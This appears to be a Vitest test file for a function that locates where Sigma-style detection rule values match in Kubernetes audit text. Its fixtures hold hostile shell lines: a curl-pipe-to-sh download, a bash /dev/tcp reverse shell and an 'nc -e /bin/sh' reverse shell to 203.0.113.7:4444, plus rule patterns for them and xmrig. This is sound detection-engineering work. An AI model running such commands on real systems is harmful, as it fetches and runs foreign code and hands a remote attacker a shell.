import { describe, expect, it } from 'vitest';
import { locateRuleMatches } from '../../src/findings/bound/locate-match.js';
import { parseYamlRule, ruleYaml } from '../helpers/rules.js';

/** Where each rule's values stand in a text: what a cut row must keep. */
const locate = (detection: string, held: string[] = ['sel']) =>
  locateRuleMatches(parseYamlRule(ruleYaml(detection, 'product: kubernetes\n    service: audit')), held);

const at = (text: string, found: string) => {
  const start = text.indexOf(found);
  return [start, start + found.length];
};

const COMMAND = 'curl -s http://203.0.113.7/m | sh; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';

describe('locateRuleMatches: literals', () => {
  it('finds a value case-insensitively, at its first occurrence', () => {
    const find = locate("sel:\n  command|contains: '/DEV/TCP/'\ncondition: sel");
    expect(find(COMMAND)).toEqual([at(COMMAND, '/dev/tcp/')]);
  });

  it('finds the longest literal part of a wildcard value', () => {
    const find = locate("sel:\n  command: '*bash -i >&*tcp*'\ncondition: sel");
    expect(find(COMMAND)).toEqual([at(COMMAND, 'bash -i >&')]);
  });

  it('skips parts shorter than three characters, booleans, and values that are only wildcards', () => {
    const find = locate("sel:\n  command|contains: ['sh', 'm', '*']\n  privileged: true\ncondition: sel");
    expect(find(`${COMMAND} true`)).toEqual([]);
    expect(locate("sel:\n  command|contains: ['sh;']\ncondition: sel")(COMMAND)).toEqual([
      at(COMMAND, 'sh;'),
    ]);
  });

  it('finds a number as its text, as the rule matches it', () => {
    expect(locate('sel:\n  command|contains: 4444\ncondition: sel')(COMMAND)).toEqual([at(COMMAND, '4444')]);
  });

  it('finds the longest literal part wherever it stands in the value', () => {
    const find = locate("sel:\n  command: '*tcp*bash -i >&*'\ncondition: sel");
    expect(find(COMMAND)).toEqual([at(COMMAND, 'bash -i >&')]);
  });

  it('orders literals from the longest down', () => {
    const find = locate("sel:\n  command|contains: ['curl', '203.0.113.7/4444']\ncondition: sel");
    expect(find(COMMAND)).toEqual([at(COMMAND, '203.0.113.7/4444'), at(COMMAND, 'curl')]);
  });

  it('escapes the characters of a literal that a regular expression would read', () => {
    const find = locate("sel:\n  command|contains: '0>&1'\n  image|contains: 'a.b'\ncondition: sel");
    expect(find(COMMAND)).toEqual([at(COMMAND, '0>&1')]);
    expect(find('axb a.b')).toEqual([[4, 7]]);
  });

  it('keeps at most eight places in one text', () => {
    const values = ['aaa1', 'aaa2', 'aaa3', 'aaa4', 'aaa5', 'aaa6', 'aaa7', 'aaa8', 'aaa9', 'aaa0'];
    const find = locate(`sel:\n  command|contains: [${values.join(', ')}]\ncondition: sel`);
    expect(find(values.join(' '))).toHaveLength(8);
  });

  it('ignores values whose modifiers make them no text of the field', () => {
    for (const modifier of ['base64', 'base64offset|contains', 'fieldref', 'cidr']) {
      const value = modifier === 'cidr' ? "'10.0.0.0/8'" : 'image';
      const find = locate(`sel:\n  command|${modifier}: ${value}\ncondition: sel`);
      expect(find('image 10.0.0.0/8'), modifier).toEqual([]);
    }
    // Numbers compared or read from a timestamp are no text of the field.
    for (const modifier of ['lt', 'lte', 'gt', 'gte', 'minute', 'hour', 'day', 'week', 'month', 'year']) {
      const find = locate(`sel:\n  requestReceivedTimestamp|${modifier}: 2025\ncondition: sel`);
      expect(find('2025-03-04T09:15:27Z'), modifier).toEqual([]);
    }
  });

  it('locates only the search identifiers that held', () => {
    const detection =
      "sel:\n  command|contains: 'curl'\nfilter:\n  command|contains: '/dev/tcp/'\ncondition: sel";
    expect(locate(detection, ['sel'])(COMMAND)).toEqual([at(COMMAND, 'curl')]);
    expect(locate(detection, ['filter'])(COMMAND)).toEqual([at(COMMAND, '/dev/tcp/')]);
    expect(locate(detection, ['other'])(COMMAND)).toEqual([]);
  });

  it('reads the maps of a list of maps', () => {
    const find = locate(
      "sel:\n  - image|contains: 'xmrig'\n  - command|contains: '/dev/tcp/'\ncondition: sel",
    );
    expect(find(COMMAND)).toEqual([at(COMMAND, '/dev/tcp/')]);
  });

  it('answers the same for the same text, asked twice', () => {
    const find = locate("sel:\n  command|contains: '/dev/tcp/'\ncondition: sel");
    expect(find(COMMAND)).toEqual(find(COMMAND));
    expect(find('no match here')).toEqual([]);
  });
});

describe('locateRuleMatches: regular expressions', () => {
  it('a pattern without quantifiers, case-sensitive as re is', () => {
    const find = locate("sel:\n  command|re: 'tcp/203\\.0'\ncondition: sel");
    expect(find(COMMAND)).toEqual([at(COMMAND, 'tcp/203.0')]);
    expect(find(COMMAND.toUpperCase())).toEqual([]);
  });

  it('a pattern with quantifiers (run on RE2)', () => {
    const find = locate("sel:\n  command|re: '/dev/tcp/[0-9.]+/[0-9]+'\ncondition: sel");
    expect(find(COMMAND)).toEqual([at(COMMAND, '/dev/tcp/203.0.113.7/4444')]);
    expect(find('nothing')).toEqual([]);
  });

  it('the i modifier and an inline (?i) make it case-insensitive, on either engine', () => {
    const upper = COMMAND.toUpperCase();
    expect(locate("sel:\n  command|re|i: 'dev/tcp'\ncondition: sel")(upper)).toEqual([at(upper, 'DEV/TCP')]);
    expect(locate("sel:\n  command|re: '(?i)dev/tcp'\ncondition: sel")(upper)).toEqual([
      at(upper, 'DEV/TCP'),
    ]);
    expect(locate("sel:\n  command|re|i: 'dev/tcp/[0-9.]+'\ncondition: sel")(upper)).toEqual([
      at(upper, 'DEV/TCP/203.0.113.7'),
    ]);
    expect(locate("sel:\n  command|re: '(?i)dev/tcp/[0-9.]+'\ncondition: sel")(upper)).toEqual([
      at(upper, 'DEV/TCP/203.0.113.7'),
    ]);
  });

  it('the m and s modifiers reach the finder', () => {
    const text = 'echo start\nnc -e /bin/sh 203.0.113.7 4444\necho end';
    expect(locate("sel:\n  command|re|m: '^nc -e'\ncondition: sel")(text)).toEqual([at(text, 'nc -e')]);
    expect(locate("sel:\n  command|re: '^nc -e'\ncondition: sel")(text)).toEqual([]);
    expect(locate("sel:\n  command|re|m: '^nc -e.*$'\ncondition: sel")(text)).toEqual([
      at(text, 'nc -e /bin/sh 203.0.113.7 4444'),
    ]);
    expect(locate("sel:\n  command|re|s: 'start.nc'\ncondition: sel")(text)).toEqual([at(text, 'start\nnc')]);
    expect(locate("sel:\n  command|re|s: 'start.nc -e.*4444'\ncondition: sel")(text)).toEqual([
      at(text, 'start\nnc -e /bin/sh 203.0.113.7 4444'),
    ]);
  });

  it('an escaped quantifier character is no quantifier', () => {
    const find = locate("sel:\n  command|re: 'a\\+b'\ncondition: sel");
    expect(find('xa+b')).toEqual([[1, 4]]);
  });

  it('RE2 syntax JavaScript lacks still finds its match', () => {
    const find = locate("sel:\n  command|re: '\\pN\\pN\\pN\\pN'\ncondition: sel");
    expect(find(COMMAND)).toEqual([at(COMMAND, '4444')]);
  });

  it('keeps at most eight places from regular expressions too', () => {
    const values = ['a.1', 'a.2', 'a.3', 'a.4', 'a.5', 'a.6', 'a.7', 'a.8', 'a.9'];
    const find = locate(`sel:\n  command|re: [${values.map((v) => `'${v}'`).join(', ')}]\ncondition: sel`);
    expect(find('a-1 a-2 a-3 a-4 a-5 a-6 a-7 a-8 a-9')).toHaveLength(8);
  });

  it('an inline flag group only at the start applies to the whole pattern', () => {
    const find = locate("sel:\n  command|re: 'dev(?i)/TCP'\ncondition: sel");
    expect(find('DEV/tcp')).toEqual([]);
    expect(find('dev/tcp')).toEqual([[0, 7]]);
  });

  it('regular expressions come before literals', () => {
    const find = locate("sel:\n  command|contains: 'curl'\n  image|re: 'tcp'\ncondition: sel");
    expect(find(COMMAND)).toEqual([at(COMMAND, 'tcp'), at(COMMAND, 'curl')]);
  });
});
